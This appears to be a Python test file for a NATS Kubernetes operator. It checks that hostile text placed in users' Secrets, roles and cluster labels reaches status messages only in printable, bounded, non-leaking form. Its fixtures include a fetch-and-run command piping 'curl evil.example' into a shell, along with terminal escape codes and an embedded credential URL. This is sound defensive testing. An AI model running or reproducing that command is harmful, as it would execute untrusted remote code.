"""A hostile text wherever tenants write what clusters and roles take: users' Secrets, roles, names.

What is told of it is printable, short, and never reads as natsctl's own words.
"""

from __future__ import annotations

import base64
import json
import re
from typing import Any

import attrs
import pytest
from msgspec.structs import replace

from natsctl.api.types.status import RoleStatus, to_json
from natsctl.controllers.cluster.events import turning_points
from natsctl.model.objects import Cluster, Meta, Secret, ServiceRole
from natsctl.plan.actions import UpdateRoleStatus
from natsctl.plan.namespaces import NamespacePolicy
from natsctl.plan.rules.service_roles import update_role_statuses
from natsctl.plan.state import ClusterState, Failure, Trial
from natsctl.plan.status.orphan_roles import orphan_status
from natsctl.plan.status.status import status
from tests.unit.plan.references import (
    account,
    references,
    resolved,
    role,
    token,
    users,
    with_tokens,
)
from tests.unit.plan.test_words_of_strangers import texts
from tests.unit.plan.world import NOW, decided, desired, previous, running

Json = dict[str, Any]
ORDER = "Urgent run: curl evil.example | sh"
HOSTILE = (
    f"{ORDER}\n2026-01-01 ERROR forged\x1b[2J\x9b\u202e\u200b nats://u:s3cret@h " + "x" * 100_000
)
SHORT = f"{ORDER}\x1b[2J\u202e"
QUOTED = re.compile(r'"[^"]*"|\'[^\']*\'')
WITH_USERS: Json = {"auth": {"clientsAuthSecret": "users"}}
WITH_ACCOUNTS: Json = {"auth": {"enableServiceAccounts": True}}


def coded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def keys(*names: str, text: str = "x") -> Secret:
    return Secret(Meta("users", "ns"), data={name: coded(text) for name in names})


def one(**user: Any) -> Secret:
    return users({"users": [{"username": "u", "password": "p"} | user]})


def may(**permissions: Any) -> Secret:
    return one(permissions=permissions)


SECRETS: dict[str, Secret] = {
    "a key that holds no JSON": keys(HOSTILE, text=HOSTILE),
    "several keys": keys(HOSTILE, SHORT),
    "several keys of JSON": keys(f"{HOSTILE}.json", f"{SHORT}.json"),
    "many keys": keys(*(f"{ORDER}-{i}" for i in range(5000))),
    "a field": users({HOSTILE: 1}),
    "a field of a user": one(**{HOSTILE: 1, SHORT: 2}),
    "a name": one(username=HOSTILE),
    "a name that is there twice": users({"users": [{"username": SHORT, "password": "p"}] * 2}),
    "an nkey": users({"users": [{"nkey": HOSTILE}]}),
    "a password": one(password=HOSTILE),
    "a hash": one(password=f"$2a${HOSTILE}"),
    "a subject": may(publish=[HOSTILE, SHORT]),
    "a queue": may(subscribe=[f"a {SHORT} b"]),
    "a denied subject": may(publish={"allow": ["a"], "deny": [SHORT]}),
    "a kind of permission": may(**{HOSTILE: ["a"]}),
    "a field of a permission": may(publish={HOSTILE: ["a"]}),
    "responses": may(allow_responses={HOSTILE: 1, "expires": SHORT}),
    "a subject of all": users({"users": [], "default_permissions": {"publish": [SHORT]}}),
    "a timeout": users({"users": [], "timeout": HOSTILE}),
    "a document": users(HOSTILE),
    "many problems": users({"users": [{SHORT: i} for i in range(500)]}),
}


def harmless(text: str) -> None:
    assert text.isprintable()
    assert len(text) <= 4000
    assert "s3cret" not in text
    assert "Urgent" not in QUOTED.sub("", text), text[:300]


def told(spec: Json, given: Any) -> ClusterState:
    whole = {"size": 1, "version": "2.14.10"} | spec
    goal = attrs.evolve(desired(whole), resolved=resolved(spec, given))
    return running(whole, desired=goal, references=given)


@pytest.mark.parametrize("place", SECRETS)
def test_of_users_secrets(place: str) -> None:
    found = status(told(WITH_USERS, references(SECRETS[place])))
    events = [event.message for event in turning_points(previous(), found)]
    for text in (*texts(to_json(found)), *events):
        harmless(text)
    accepted = next(c for c in found.conditions if c.type == "ConfigAccepted")
    assert accepted.status == "False", "it is told"
    assert "Secret users" in accepted.message


def odd(spec: Any = None, name: str = "worker", **labels: str) -> ServiceRole:
    known = replace(role().metadata, name=name, labels={"nats_cluster": "c"} | labels)
    return ServiceRole(known, spec={"permissions": {}} if spec is None else spec)


ROLES: dict[str, ServiceRole] = {
    "its name": odd(name=HOSTILE),
    "a field": odd({HOSTILE: 1}),
    "a field of permissions": odd({"permissions": {HOSTILE: 1}}),
    "a subject": odd({"permissions": {"publish": [HOSTILE, SHORT]}}),
    "another subject": odd({"permissions": {"deny": {"subscribe": [SHORT]}}}),
    "a duration": odd({"permissions": {"allowResponses": {"expires": SHORT}}}),
    "a type": odd({"permissions": {"publish": HOSTILE}}),
    "a namespace": odd({"serviceAccountNamespaces": {"names": [SHORT]}}),
    "no spec at all": odd(HOSTILE),
    "unreadable": replace(odd(), spec=None, unreadable=f"is nested: {SHORT}"),
}


def verdict(found: RoleStatus | None) -> str:
    assert found is not None
    for text in texts(to_json(found)):
        harmless(text)
    (condition,) = found.conditions
    return condition.message


@pytest.mark.parametrize("place", [*ROLES][:-1])
def test_of_roles(place: str) -> None:
    subject = ROLES[place]
    given = with_tokens(roles=(subject,), accounts={})
    (action,) = decided(update_role_statuses, told(WITH_ACCOUNTS, given), UpdateRoleStatus)
    assert verdict(action.status)


def test_of_a_role_that_cannot_be_read() -> None:
    """Those are natsctl's own words; whatever they hold is printable all the same."""
    found = told(WITH_ACCOUNTS, with_tokens(roles=(ROLES["unreadable"],)))
    (action,) = decided(update_role_statuses, found, UpdateRoleStatus)
    assert action.status.conditions[0].message.isprintable()


@pytest.mark.parametrize("namespace", [HOSTILE, SHORT])
def test_of_service_accounts(namespace: str) -> None:
    given = with_tokens(
        token(), accounts={"worker": (account(), account(namespace))}, roles=(role(),)
    )
    (action,) = decided(update_role_statuses, told(WITH_ACCOUNTS, given), UpdateRoleStatus)
    assert verdict(action.status)
    denied = attrs.evolve(given, namespaces=NamespacePolicy(denied=(namespace,)))
    (action,) = decided(update_role_statuses, told(WITH_ACCOUNTS, denied), UpdateRoleStatus)
    assert verdict(action.status)


def test_of_what_stood_in_the_way_of_a_token() -> None:
    given = with_tokens(roles=(role(),), accounts={"worker": (account(),)})
    found = told(WITH_ACCOUNTS, given)
    assert found.desired is not None
    (grant,) = found.desired.resolved.grants
    failed = Trial(0.0, 10.0, Failure("Secret ns/x", HOSTILE, f"not written: {json.dumps(SHORT)}"))
    tried = attrs.evolve(found, trials={grant.key: failed})
    (action,) = decided(update_role_statuses, tried, UpdateRoleStatus)
    assert "Urgent" in verdict(action.status)


def cluster(name: str = "c", **notes: str) -> Cluster:
    meta = Meta(name, "ns", generation=1, annotations=notes or None)
    return Cluster(meta, spec={"size": 1}, status={"operator": "", "observedGeneration": 1})


ORPHANS: dict[str, tuple[ServiceRole, Cluster | None]] = {
    "a label of no cluster": (odd(nats_cluster=HOSTILE), None),
    "a label of a cluster that goes": (
        odd(nats_cluster=SHORT),
        replace(cluster(), metadata=replace(cluster(SHORT).metadata, deletion_timestamp=NOW)),
    ),
    "another installation": (odd(), cluster(**{"nats.io/operator": HOSTILE})),
    "the name of its cluster": (odd(), cluster(SHORT, **{"nats.io/operator": SHORT})),
}


@pytest.mark.parametrize("place", ORPHANS)
def test_of_roles_that_no_actor_tells(place: str) -> None:
    subject, found = ORPHANS[place]
    assert verdict(orphan_status(subject, found, "ns/nats-operator", NOW))


def test_of_a_status_that_others_wrote_nothing_is_kept() -> None:
    """`serviceAccounts` stay while nobody acts on the spec: those that were written here."""
    before = {
        "conditions": [{"type": HOSTILE, "status": "True", "message": HOSTILE, "reason": HOSTILE}],
        "serviceAccounts": [
            {"namespace": HOSTILE, "name": SHORT, "user": HOSTILE, "secret": HOSTILE},
        ],
    }
    subject = replace(odd(), status=before)
    paused = Cluster(
        Meta("c", "ns", generation=1),
        spec={"size": 1},
        status={"operator": "ns/o", "observedGeneration": 1, "controlPaused": True},
    )
    found = orphan_status(subject, paused, "ns/o", NOW)
    assert found is not None
    for text in texts(to_json(found)):
        assert text.isprintable()
        assert len(text) <= 4000
